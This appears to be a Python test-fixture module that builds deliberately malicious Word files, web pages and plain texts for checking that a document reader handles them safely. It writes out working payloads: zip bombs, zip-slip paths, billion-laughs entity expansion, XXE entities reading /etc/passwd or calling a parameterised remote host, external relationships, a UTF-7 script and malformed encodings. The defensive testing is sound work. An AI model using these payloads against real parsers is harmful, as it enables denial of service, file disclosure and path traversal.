"""Word files, web pages and texts that mean harm, written here."""

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

from tests.corpus.readers.making import make_zip

SAYS = "Children in care are seen regularly by their social workers."
_W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def paragraph(text: str = SAYS, more: str = "") -> str:
    """One of a Word file; `more` stands before its words."""
    return f"<w:p>{more}<w:r><w:t>{text}</w:t></w:r></w:p>"


def word_members(
    body: str,
    head: str = "",
    relations: str = "",
    styles: str = "",
    main: str = "word/document.xml",
) -> dict[str, bytes]:
    """The members of a Word file: `head` stands before the markup of its text."""
    types = (
        f"<Types xmlns='{_PACKAGE}/content-types'><Default Extension='rels' ContentType="
        "'application/vnd.openxmlformats-package.relationships+xml'/><Default Extension='xml' "
        f"ContentType='application/xml'/><Override PartName='/{main}' ContentType="
        f"'{_WORD}.document.main+xml'/><Override PartName='/word/styles.xml' "
        f"ContentType='{_WORD}.styles+xml'/></Types>"
    )
    own = f"<Relationship Id='s' Type='{_OFFICE}/styles' Target='styles.xml'/>" + relations
    folder, _, name = main.rpartition("/")
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": _relations(
            f"<Relationship Id='d' Type='{_OFFICE}/officeDocument' Target='{main}'/>"
        ),
        main: f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>".encode(),
        f"{folder}/_rels/{name}.rels": _relations(own),
        "word/styles.xml": f"<w:styles {_W}>{styles}</w:styles>".encode(),
    }


def _relations(each: str) -> bytes:
    return f"<Relationships xmlns='{_PACKAGE}/relationships'>{each}</Relationships>".encode()


def word_files(remote: str) -> Iterator[tuple[str, bytes]]:
    """All of them by name; those that would call somewhere call `remote`, a web address."""
    yield from _word_bombs()
    yield from _word_calls(remote)
    sound = word_members(paragraph())
    yield "zip slip", make_zip({**sound, "../../../../tmp/slipped": b"x", "/tmp/slipped": b"x"})
    yield "names of members", make_zip({**sound, "word/\x1b[2J\u202e\n": b"x", "n" * 60_000: b"x"})
    rings = "".join(
        f"<w:style w:type='paragraph' w:styleId='{own}'><w:name w:val='{own}'/>"
        f"<w:basedOn w:val='{other}'/></w:style>"
        for own, other in (("A", "B"), ("B", "A"))
    )
    styled = paragraph(more="<w:pPr><w:pStyle w:val='A'/></w:pPr>")
    yield "styles in a ring", make_zip(word_members(styled, styles=rings))
    itself = f"<Relationship Id='x' Type='{_OFFICE}/image' Target='document.xml'/>"
    yield "a part that is its own picture", make_zip(word_members(paragraph(), relations=itself))
    yield "deep markup", make_zip(word_members("<w:sdt>" * 100_000 + paragraph()))
    tables = "<w:tbl><w:tr><w:tc>" * 80 + paragraph() + "</w:tc></w:tr></w:tbl>" * 80
    yield "tables in tables", make_zip(word_members(tables))
    cell = "<w:tc><w:tcPr><w:gridSpan w:val='99999999999'/></w:tcPr>" + paragraph() + "</w:tc>"
    yield "a wide cell", make_zip(word_members(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"))
    yield "a web page after it", make_zip(sound) + b"<html><script>x</script></html>"
    yield "a member twice", _twice(sound)
    yield "a locked member", _patched(make_zip(sound), 6, 8, b"\x01\x00")
    yield "a method nobody has", _patched(make_zip(sound), 8, 10, b"\x63\x00")


def _word_bombs() -> Iterator[tuple[str, bytes]]:
    spaces = "<w:document>" + " " * 50_000_000
    yield "markup", make_zip({**word_members(""), "word/document.xml": spaces.encode()})
    renamed = word_members("", main="word/other.xml")
    yield "markup by another name", make_zip({**renamed, "word/other.xml": spaces.encode()})
    lying = make_zip({**word_members(""), "word/document.xml": spaces.encode()})
    size = struct.pack("<L", len(spaces))
    yield "a size that lies", lying.replace(size, struct.pack("<L", 1_000))
    yield (
        "members",
        make_zip({**word_members(paragraph()), **{f"word/m{n}": b"" for n in range(10_001)}}),
    )
    entities = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 12))
    laughs = f"<!DOCTYPE x [<!ENTITY e0 'ha'>{entities}]>"
    yield "laughs", make_zip(word_members(paragraph("&e11; " + SAYS), head=laughs))
    attribute = f"<w:p w:x='{'&e11;'}'/>" + paragraph()
    yield "laughs in an attribute", make_zip(word_members(attribute, head=laughs))


def _word_calls(remote: str) -> Iterator[tuple[str, bytes]]:
    for what, address in (("remote", f"{remote}/entity"), ("local", "file:///etc/passwd")):
        head = f"<!DOCTYPE x [<!ENTITY e SYSTEM '{address}'>]>"
        yield f"a {what} entity", make_zip(word_members(paragraph("&e; " + SAYS), head=head))
    dtd = f"<!DOCTYPE x PUBLIC '-//x' '{remote}/dtd' [<!ENTITY % p SYSTEM '{remote}/p'> %p;]>"
    yield "a remote grammar", make_zip(word_members(paragraph(), head=dtd))
    outside = "".join(
        f"<Relationship Id='o{n}' TargetMode='External' Type='{_OFFICE}/{kind}' "
        f"Target='{remote}/{kind}'/>"
        for n, kind in enumerate(("attachedTemplate", "image", "oleObject", "frame"))
    )
    yield "outside relations", make_zip(word_members(paragraph(), relations=outside))
    included = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{remote}/x'/>"
    sheet = f"<?xml-stylesheet type='text/xsl' href='{remote}/xsl'?>"
    yield "inclusions", make_zip(word_members(included + paragraph(), head=sheet))
    field = f"<w:fldSimple w:instr='INCLUDEPICTURE {remote}/field'/>"
    field += f"<w:altChunk r:id='o1' xmlns:r='{_OFFICE}'/>"
    yield "fields", make_zip(word_members(paragraph(more=field), relations=outside))


def _twice(members: Mapping[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, contents in (*members.items(), ("word/documenx.xml", b"<other/>")):
            archive.writestr(zipfile.ZipInfo(name), contents)
    return made.getvalue().replace(b"documenx", b"document")


def _patched(archive: bytes, local: int, central: int, value: bytes) -> bytes:
    """The archive with two bytes of each head changed."""
    made = bytearray(archive)
    for mark, offset in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        at = made.find(mark)
        while at >= 0:
            made[at + offset : at + offset + 2] = value
            at = made.find(mark, at + 4)
    return bytes(made)


def web_pages(remote: str) -> Iterator[tuple[str, bytes]]:
    """Web pages; what they would fetch is at `remote`, a web address."""
    calls = (
        f"<base href='{remote}/base/'><link rel=stylesheet href='{remote}/css'><link rel=preload "
        f"as=image href='{remote}/l'><meta http-equiv=refresh content='0;url={remote}/refresh'>"
        f"<style>@import '{remote}/import'; body{{background:url({remote}/bg)}}</style>"
        f"<script src='{remote}/js'></script>"
    )
    body = (
        f"<img src='{remote}/img' srcset='{remote}/set 2x'><iframe src='{remote}/frame'></iframe>"
        f"<object data='{remote}/object'></object><embed src='{remote}/embed'><video "
        f"poster='{remote}/v'></video><svg><image href='{remote}/svg'/></svg><p>{SAYS}</p>"
    )
    whole = f"<!doctype html><html><head>{calls}</head><body>{body}</body></html>"
    yield "remote content", whole.encode()
    dtd = f"<!DOCTYPE html PUBLIC 'x' '{remote}/dtd' [<!ENTITY e SYSTEM '{remote}/entity'>]>"
    yield "a remote entity", f"{dtd}<html><p>&e; {SAYS}</p></html>".encode()
    page = f"<html><body><p>{SAYS}</p>"
    for name, piece, times in (
        ("deep", "<div>", 8_000),
        ("deep words", "<b>", 8_000),
        ("tables in tables", "<table><tr><td>", 3_000),
        ("lists in lists", "<ul><li>", 4_000),
        ("open comments", "<!--", 100_000),
        ("open tags", "<a b='", 100_000),
        ("wide cells", "<table><tr><td colspan=99999999999>x", 2_000),
        ("wide empty cells", "<td colspan=50></td>", 1_000),
        ("characters by number", "&#x10FFFF;&#xD800;&#0;", 5_000),
        ("bullets", "<li>", 10_000),
    ):
        yield name, (page + piece * times).encode()
    yield "values", f"{page}<p {' '.join(f'a{n}=1' for n in range(20_000))}>x</p>".encode()
    yield "a long line", f"{page}<p>{'word ' * 60_000}</p>".encode()
    yield "zeros", page.encode() + b"\0" * 5_000
    script = b"<html><meta charset=utf-7>+ADw-script+AD4-alert+ADw-/script+AD4- "
    yield "utf-7", script + SAYS.encode()
    yield "a false mark", b"\xff\xfe" + page.encode()
    yield "a pdf inside", page.encode() + b"%PDF-1.4 1 0 obj <<>> endobj"


def texts() -> Iterator[tuple[str, bytes]]:
    """Plain texts."""
    said = SAYS.encode()
    marks = "\u202e\u2066\u200b\ufeff".encode()
    yield "too long", b"word " * 11_000_000
    yield "a long line", b"word " * 60_000
    yield "no space", said + b"w" * 3_000_000
    yield "utf-16 without a mark", (SAYS * 20).encode("utf-16-le")
    yield "half a pair", (SAYS * 20).encode("utf-16-le") + b"\x00\xd8"
    yield "utf-7", b"+AGM-hildren +2AA- " + said
    yield "overlong", b"\xc0\xaf\xe0\x80\xaf\xf8\x80\x80\x80\xaf " + said
    yield "zeros between", b"\0".join(said[n : n + 1] for n in range(20)) + said * 90
    yield "controls", said * 10 + b"\x1b[2J\x1b]0;x\x07\x08\x7f" + marks * 50
    yield "accents", said + "e\u0301".encode() + "\u0301".encode() * 200_000
    yield "empty cells", b"AGENDA\n" + b" | " * 20_000 + b"x\n" + said
    yield "numbers", b"\n".join(b"%d. %b" % (n, said) for n in range(1, 1_500))
    yield "a huge number", b"9" * 100_000 + b". " + said + b"\nMeeting on 99 March 99999"
    yield "tags", said + b"<br><ul><li>" * 20_000
